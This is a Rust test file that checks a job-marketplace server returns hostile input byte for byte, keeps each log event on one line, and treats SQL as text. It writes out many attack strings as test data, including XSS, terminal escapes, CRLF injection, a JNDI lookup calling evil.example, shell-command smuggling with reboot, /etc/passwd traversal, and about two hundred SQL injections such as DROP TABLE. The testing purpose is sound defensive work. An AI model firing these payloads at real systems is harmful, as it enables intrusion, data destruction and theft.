//! Texts that somebody wrote to be more than text: they come back byte for byte wherever text is taken, the log stays
//! one line to an event, and nothing that looks like SQL means anything.

use clawrk_domain::limits;
use clawrk_server::telemetry::LogFormat;
use serde_json::{Value, json};

use crate::log::{Captured, captured};
use crate::routes::{Kind, operations};
use crate::support::{TestApp, User};

/// What steers terminals, forges lines, runs in pages, spreadsheets, formats and shells, or is just strange.
fn hostile() -> Vec<String> {
    let mut texts: Vec<String> = [
        // Terminals: colours, the cursor, the title, the clipboard, links, one-byte forms, device control.
        "\u{1b}[31mred\u{1b}[0m",
        "\u{1b}[2J\u{1b}[H",
        "\u{1b}]0;owned\u{7}",
        "\u{1b}]52;c;aGk=\u{1b}\\",
        "\u{1b}]8;;https://evil.example\u{1b}\\here\u{1b}]8;;\u{1b}\\",
        "\u{1b}[?1049h",
        "\u{1b}[6n",
        "\u{1b}P+q544e\u{1b}\\",
        "\u{9b}31m\u{9d}0;x\u{9c}",
        "\u{90}q\u{85}\u{84}\u{88}",
        "a\u{8}\u{8}\u{8}b",
        "\u{7f}\u{7}\u{b}\u{c}",
        "\u{e}\u{f}\u{5}",
        // Lines that were never written.
        "one\ntwo",
        "one\rtwo",
        "one\r\nSet-Cookie: a=b\r\n\r\n<html>",
        "x\n2025-01-01T00:00:00Z ERROR all is lost",
        "x\n{\"level\":\"ERROR\"}",
        "a\u{2028}b\u{2029}c\u{85}d",
        "%0d%0aLocation:%20//evil.example",
        // Directions, and what cannot be seen.
        "\u{202e}txt.exe\u{202c}",
        "\u{202a}\u{202b}\u{202d}x",
        "\u{2066}a\u{2067}b\u{2068}c\u{2069}",
        "\u{200e}\u{200f}\u{61c}",
        "pay\u{200b}pal\u{200c}\u{200d}\u{2060}\u{feff}",
        "\u{ad}\u{34f}\u{115f}\u{3164}\u{ffa0}",
        "\u{e0001}\u{e0041}\u{e007f}",
        "\u{fff9}a\u{fffa}b\u{fffb}",
        "Z\u{351}\u{36b}\u{343}\u{36a}\u{302}\u{36b}\u{33d}a\u{34f}\u{334}\u{359}l",
        // Letters that are others, or not the same twice.
        "аdmin",
        "ａｄｍｉｎ",
        "e\u{301} \u{e9}",
        "\u{130}\u{131}ßﬀ",
        "👩\u{200d}👩\u{200d}👧\u{200d}👦🏳\u{fe0f}\u{200d}🌈",
        "\u{10ffff}\u{fffe}\u{fdd0}",
        "\u{d7ff}\u{e000}",
        // Pages.
        "<script>alert(1)</script>",
        "\"><img src=x onerror=alert(1)>",
        "javascript:alert(1)",
        "<svg/onload=alert(1)>",
        "&lt;b&gt;&#60;&amp;",
        "{{7*7}}${7*7}<%= 7*7 %>#{7*7}",
        "]]>--><!--<![CDATA[",
        // Numbers, spreadsheets, formats, shells, paths.
        "=cmd|' /C calc'!A0",
        "+1+1",
        "-2+3",
        "@SUM(1+1)",
        "%s%s%n%x%d{}{0}{:?}",
        "$(reboot)`reboot`;reboot|reboot&",
        "../../../../etc/passwd",
        "C:\\con\\nul\\..",
        "${jndi:ldap://evil.example/a}",
        // JSON, and other protocols.
        "\",\"status\":\"verified\",\"x\":\"",
        "\\u0000\\x00\\0",
        "{\"__proto__\":{\"admin\":true}}",
        "null",
        "1e999",
        "\\",
        "\"",
        "'",
        "\t\u{a0}\u{3000}x",
    ]
    .map(str::to_owned)
    .into();
    texts.push("ab\u{301}🦀".repeat(250));
    texts.push("x".repeat(limits::PROSE));
    texts
}

/// Asserts that a text was taken as it is, or refused, and only for the bounds that are promised; the answer if taken.
#[track_caller]
fn taken(answer: crate::support::Answer, status: u16, fits: bool, text: &str) -> Option<Value> {
    if fits {
        return Some(answer.expect(status));
    }
    answer.refused(400, "invalid_field");
    assert!(!is_name(text), "{text:?}");
    None
}

/// Nobody would know what such a text asks for.
fn is_unseen(text: &str) -> bool {
    let unseen = ["\u{200e}\u{200f}\u{61c}", "\u{ad}\u{34f}\u{115f}\u{3164}\u{ffa0}", "\u{e0001}\u{e0041}\u{e007f}"];
    unseen.contains(&text.trim())
}

fn is_name(text: &str) -> bool {
    let text = text.trim();
    text.chars().count() <= limits::NAME && !text.contains(char::is_control)
}

#[tokio::test]
async fn what_somebody_writes_comes_back_byte_for_byte_everywhere() {
    let log = captured();
    let app = TestApp::new().await;
    let (ada, bob) = (app.user("ada", 100_000).await, app.user("bob", 0).await);
    let texts = hostile();
    assert!(texts.len() >= 60);
    for text in &texts {
        if is_unseen(text) {
            let body = json!({"prompt": text, "title": "t", "confirmed": true});
            ada.post("/api/jobs/run", body).await.refused(400, "invalid_field");
            continue;
        }
        let path = format!("/api/agents/{}", bob.get("/api/agents").await.expect(200)[0]["id"].as_str().unwrap());
        let named = taken(bob.patch(&path, json!({"name": text, "personality": text})).await, 200, is_name(text), text);
        if let Some(agent) = named {
            assert_eq!((&agent["name"], &agent["personality"]), (&json!(text.trim()), &json!(text)));
        }
        bob.patch(&path, json!({ "personality": text })).await.expect(200);
        let agent = bob.get(&path).await.expect(200);
        assert_eq!(agent["personality"], *text);
        if let Some(key) = taken(ada.post("/api/keys", json!({ "name": text })).await, 201, is_name(text), text) {
            assert_eq!(key["name"], text.trim());
            let keys = ada.get("/api/keys").await.expect(200);
            assert_eq!(keys.as_array().unwrap().last().unwrap()["name"], text.trim());
            ada.delete(&format!("/api/keys/{}", key["id"].as_str().unwrap())).await.expect(200);
        }
        app.clock.advance(1);
        a_whole_job_of(&ada, &bob, text).await;
    }
    app.audit().await;
    log.is_made_of_lines();
}

/// A job with the text in every place that the sender and the worker fill.
async fn a_whole_job_of(ada: &User, bob: &User, text: &str) {
    let short: String = text.chars().take(limits::TITLE).collect();
    let criterion: String = text.chars().take(limits::CRITERION).collect();
    let body = json!({"prompt": text, "title": short, "description": text, "requirements": text,
        "criteria": [criterion, criterion], "envVars": {"A": text}, "price_cents": 100, "time_limit_seconds": 600});
    let estimate = ada.post("/api/jobs/run", body.clone()).await.expect(200);
    assert_eq!((&estimate["title"], &estimate["description"]), (&json!(short), &json!(text)));
    let mut confirmed = body;
    confirmed["confirmed"] = json!(true);
    let made = ada.post("/api/jobs/run", confirmed).await.expect(201);
    let job = made["id"].as_str().unwrap().to_owned();
    let path = format!("/api/jobs/{job}");
    let board = ada.get("/api/board").await.expect(200);
    let open = board.as_array().unwrap().iter().find(|open| open["id"] == json!(job)).unwrap().clone();
    let title = json!(short.trim());
    assert_eq!((&open["title"], &open["description"], &open["requirements"]), (&title, &json!(text), &json!(text)));
    bob.work(&job, text).await.expect(200);
    ada.post(&format!("{path}/review"), json!({"verdict": "fail", "reason": text})).await.expect(200);
    for action in ["claim", "accept"] {
        bob.act(&job, action).await.expect(200);
    }
    bob.post(&format!("{path}/fail"), json!({ "reason": text })).await.expect(200);
    bob.work(&job, text).await.expect(200);
    ada.post(&format!("{path}/review"), json!({"verdict": "pass", "reason": text})).await.expect(200);
    let seen = ada.get(&path).await.expect(200);
    for (field, value) in [
        ("prompt", json!(text)),
        ("title", title),
        ("description", json!(text)),
        ("requirements", json!(text)),
        ("criteria", json!([criterion, criterion])),
        ("env_vars", json!({ "A": text })),
        ("output_text", json!(text)),
    ] {
        assert_eq!(seen[field], value, "{field}");
    }
    assert_eq!(seen["verification"]["reasoning"], text);
    let events = ada.get(&format!("{path}/events")).await.expect(200);
    let reasons = events.as_array().unwrap().iter().filter(|event| event["reason"] == text).count();
    assert_eq!(reasons, 3, "{events}");
}

/// What is said of a failure may hold anything, too.
#[test]
fn a_log_line_is_one_line_and_steers_nothing_whatever_it_tells() {
    for text in hostile() {
        for format in [LogFormat::Text, LogFormat::Json] {
            let told = Captured::default();
            tracing::subscriber::with_default(told.subscriber(format), || {
                tracing::info!(cause = text, shown = %text, debug = ?text, "{text}");
            });
            let lines = told.text(format);
            assert_eq!(lines.matches('\n').count(), 1, "{lines:?}");
            told.is_made_of_lines();
            if format == LogFormat::Json {
                let line: Value = serde_json::from_str(&lines).unwrap();
                for field in ["cause", "shown", "message"] {
                    assert_eq!(line[field], text.as_str(), "nothing is lost");
                }
            }
        }
    }
}

/// Two hundred texts that would mean something if any SQL were made from them.
fn injections() -> Vec<String> {
    let bases = [
        "'",
        "''",
        "\"",
        "`",
        "\\",
        "\\'",
        ";",
        "--",
        "/*",
        "*/",
        "' --",
        "'; --",
        "') --",
        "')) --",
        "' OR '1'='1",
        "' OR 1=1 --",
        "\" OR \"\"=\"",
        "1 OR 1=1",
        "' OR TRUE --",
        "' AND 1=2 UNION SELECT 1,2,3 --",
        "' UNION ALL SELECT NULL,NULL,NULL --",
        "'; DROP TABLE users; --",
        "'; DELETE FROM transfers; --",
        "'; UPDATE wallets SET balance_cents = 999999; --",
        "'; INSERT INTO users VALUES (1); --",
        "'||(SELECT sealed FROM seal)||'",
        "' || pg_sleep(5) || '",
        "'; SELECT pg_sleep(5); --",
        "' AND randomblob(500000000) --",
        "'; ATTACH DATABASE '/tmp/x' AS x; --",
        "'; PRAGMA writable_schema = 1; --",
        "'; COPY users TO PROGRAM 'reboot'; --",
        "$$; DROP TABLE users; $$",
        "$1",
        "$2::int",
        "?1",
        ":name",
        "@name",
        "1 ORDER BY 99",
        "id DESC, (SELECT 1)",
        "1 LIMIT 1 OFFSET 1",
        "%",
        "_",
        "%' ESCAPE '!",
        "\u{2019} OR 1=1 --",
        "0x27",
        "char(39)",
        "e'\\x27'",
        "1e308",
        "{\"$gt\": \"\"}",
    ];
    let before = ["", "1", "000000000000", "01941f29-7c00-7000-8000-000000000000"];
    bases.iter().flat_map(|base| before.map(|before| format!("{before}{base}"))).collect()
}

fn encoded(text: &str) -> String {
    text.bytes().map(|byte| format!("%{byte:02X}")).collect()
}

#[tokio::test]
async fn sql_in_ids_cursors_parameters_and_keys_means_nothing() {
    let app = TestApp::new().await;
    let ada = app.user("ada", 10_00).await;
    let job = ada.job("x", 5_00).await;
    let sees = async || {
        let mut seen = Vec::new();
        for path in ["/api/agents", "/api/keys", "/api/jobs", "/api/users/status", "/api/wallet/balance", "/api/board"]
        {
            seen.push(ada.get(path).await.expect(200));
        }
        seen
    };
    let before = sees().await;
    let injections = injections();
    assert_eq!(injections.len(), 200);
    for text in &injections {
        for operation in operations() {
            let body = (operation.method != "GET").then(|| operation.body().to_string().into_bytes());
            if let Some(kind) = operation.kind() {
                let expected = if kind == Kind::User { 403 } else { 404 };
                let answer = ada.send(&operation.method, &operation.at(&encoded(text)), body.clone(), &[]).await;
                assert_eq!(answer.status, expected, "{} with {text}", operation.name());
            }
            for parameter in &operation.query {
                let id = if operation.kind() == Some(Kind::Job) { job.as_str() } else { ada_s_agent(&before) };
                let answer = ada.get(&format!("{}?{parameter}={}", operation.at(id), encoded(text))).await;
                if parameter == "q" && !text.contains('\0') {
                    // Anything may be looked for.
                    assert_eq!(answer.status, 200, "{} for {text}", operation.name());
                    continue;
                }
                // A cursor counts for something only with what it goes on from, and a whole number may be a good one.
                assert_eq!(answer.status, 400, "{}?{parameter}={text}: {:?}", operation.name(), answer.json());
            }
        }
        let key = ada.post_once(text, &format!("/api/jobs/{job}/pay"), json!({})).await;
        assert_eq!(key.status, 400, "{text}: {:?}", key.json());
    }
    assert_eq!(sees().await, before);
    app.audit().await;
}

fn ada_s_agent(seen: &[Value]) -> &str {
    seen[0][0]["id"].as_str().unwrap()
}

#[tokio::test]
async fn sql_in_texts_is_text() {
    let app = TestApp::new().await;
    let (ada, bob) = (app.user("ada", 100_000).await, app.user("bob", 0).await);
    for text in injections() {
        let key = text.replace(|character: char| !character.is_ascii(), "x");
        let name: String = text.chars().take(limits::NAME).collect();
        let agent = ada.post_once(&key, "/api/agents", json!({"name": name, "personality": text}));
        let agent = agent.await.expect(201);
        assert_eq!((&agent["name"], &agent["personality"]), (&json!(name.trim()), &json!(text)));
        ada.delete(&format!("/api/agents/{}", agent["id"].as_str().unwrap())).await.expect(200);
        let job = ada.job(&text, 1_00).await;
        bob.work(&job, &text).await.expect(200);
        let done = ada.post(&format!("/api/jobs/{job}/review"), json!({"verdict": "pass", "reason": text})).await;
        let done = done.expect(200);
        assert_eq!((&done["prompt"], &done["output_text"]), (&json!(text), &json!(text)));
        assert_eq!(done["verification"]["reasoning"], text.as_str());
    }
    assert_eq!((ada.balance().await, ada.get("/api/agents").await.expect(200).as_array().unwrap().len()), (80_000, 1));
    app.audit().await;
}
